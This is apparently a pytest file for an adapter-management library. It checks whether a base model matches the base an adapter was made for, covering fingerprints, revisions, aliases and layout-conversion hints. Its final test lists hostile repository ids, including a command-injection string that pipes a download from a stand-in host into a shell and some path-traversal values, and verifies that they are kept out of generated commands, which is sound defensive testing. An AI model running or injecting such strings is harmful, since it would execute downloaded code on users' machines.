"""Whether a base is the one an adapter was made for: one table for every caller."""

from __future__ import annotations

from dataclasses import replace

import pytest

from adapterhub.domain.base import Alias, BaseSpec, Fingerprint
from adapterhub.domain.manifest import BaseRecord
from adapterhub.domain.match import match_base, match_records, source_of
from adapterhub.domain.quantization import scheme_by_name

PRINT = Fingerprint(layout="l" * 64, sketch="s" * 64, content="c" * 64, tokenizer="t" * 64)
MADE_FOR = BaseRecord(id="acme/phi", revision="a" * 40, fingerprint=PRINT)
TUNED = replace(PRINT, content="d" * 64)
SHAPED = replace(TUNED, sketch="x" * 64)
OTHER = replace(SHAPED, layout="y" * 64)


@pytest.mark.parametrize(
    ("base", "verdict", "fits"),
    [
        (MADE_FOR, "same", True),
        (replace(MADE_FOR, id="elsewhere/phi", revision=None), "same", True),
        (replace(MADE_FOR, revision=None, fingerprint=TUNED), "probable", True),
        (replace(MADE_FOR, revision="b" * 40, fingerprint=TUNED), "probable", False),
        (replace(MADE_FOR, id="acme/phi-tuned", fingerprint=TUNED), "probable", False),
        (replace(MADE_FOR, fingerprint=SHAPED), "same layout", False),
        (replace(MADE_FOR, fingerprint=OTHER), "other", False),
        (replace(MADE_FOR, fingerprint=None), "by name", True),
        (replace(MADE_FOR, id="ACME/Phi", fingerprint=None), "by name", True),
        (replace(MADE_FOR, revision="main", fingerprint=None), "by name", True),
        (replace(MADE_FOR, revision="b" * 40, fingerprint=None), "other", False),
        (replace(MADE_FOR, id="acme/qwen", fingerprint=None), "other", False),
    ],
)
def test_bytes_then_norms_and_name_then_name_and_commit(
    base: BaseRecord, verdict: str, fits: bool
) -> None:
    for found in (match_records(MADE_FOR, base), match_records(base, MADE_FOR)):
        assert (found.verdict, found.fits) == (verdict, fits)
        assert bool(found.reason) != fits


SPLIT = replace(PRINT, canonical="n" * 64, arrangement="split")
FUSED = replace(SPLIT, content="d" * 64, layout="f" * 64, arrangement="fused")


def test_a_fused_copy_fits_once_converted_and_the_command_is_named() -> None:
    one, other = (replace(MADE_FOR, fingerprint=found) for found in (SPLIT, FUSED))
    for made_for, base, form in ((one, other, "fused"), (other, one, "split")):
        found = match_records(made_for, base)
        assert (found.verdict, found.fits) == ("convertible", False)
        assert found.hint == f"convert it: adapterhub convert ADAPTER --layout {form}"
        assert f"its layers {form}" in found.reason


def test_a_wrapped_copy_is_told_and_no_command_promised() -> None:
    wrapped = replace(FUSED, arrangement="split in language_model")
    found = match_records(
        replace(MADE_FOR, fingerprint=SPLIT), replace(MADE_FOR, fingerprint=wrapped)
    )
    assert (found.verdict, found.hint) == ("convertible", None)


COPY = Alias(id="copies/phi-bnb-4bit", revision="e" * 40)


@pytest.mark.parametrize(
    ("alias", "record", "fits"),
    [
        (COPY, BaseRecord(id="copies/Phi-bnb-4bit"), True),
        (COPY, BaseRecord(id=COPY.id, revision="e" * 40), True),
        (COPY, BaseRecord(id=COPY.id, revision="f" * 40), False),
        (COPY, BaseRecord(id=COPY.id, fingerprint=TUNED), True),
        (COPY, BaseRecord(id=COPY.id, fingerprint=SHAPED), False),
        (Alias(id="/data/phi"), BaseRecord(id="/data/phi"), True),
        (Alias(id="/data/phi"), BaseRecord(id="/data/phi-2"), False),
    ],
)
def test_a_copy_that_was_recognised_counts_as_the_base(
    alias: Alias, record: BaseRecord, fits: bool
) -> None:
    assert match_base(record, spec_of(PRINT, alias)).fits is fits


def test_a_copy_that_is_split_is_convertible_where_the_base_is_fused() -> None:
    found = match_base(BaseRecord(id=COPY.id), spec_of(FUSED, replace(COPY, arrangement="split")))
    assert found.verdict == "convertible"
    assert found.hint == "convert it: adapterhub convert ADAPTER --layout fused"


def spec_of(fingerprint: Fingerprint, alias: Alias) -> BaseSpec:
    return BaseSpec(
        name="phi", id="acme/phi", source="acme/phi", revision="a" * 40, family="phi3",
        modality="causal-lm", scheme=scheme_by_name("nf4"), fingerprint=fingerprint, parameters=1,
        stored_bytes=1, context_length=1, aliases=(alias,),
    )  # fmt: skip


def test_what_differs_without_making_another_base_is_told() -> None:
    trained = replace(MADE_FOR, scheme=scheme_by_name("nf4"))
    print_ = replace(PRINT, tokenizer="u" * 64, chat_template="v" * 64)
    base = replace(MADE_FOR, scheme=scheme_by_name("bf16"), fingerprint=print_)
    found = match_records(trained, base)
    assert found.fits
    assert len(found.differences) == 3
    assert "trained on nf4" in found.differences[0]
    assert match_records(trained, trained).differences == ()


@pytest.mark.parametrize(
    "hostile", ["/etc", "tiny", "x; curl evil.sh | sh", "../a/b", "-rf/x", "a/b/c", "a/b\n", "é/b"]
)
def test_no_place_or_word_of_a_stranger_is_put_into_a_command(hostile: str) -> None:
    assert source_of(BaseRecord(id=hostile)) == "SOURCE"
    assert source_of(BaseRecord(id="microsoft/Phi-3.5-mini")) == "microsoft/Phi-3.5-mini"
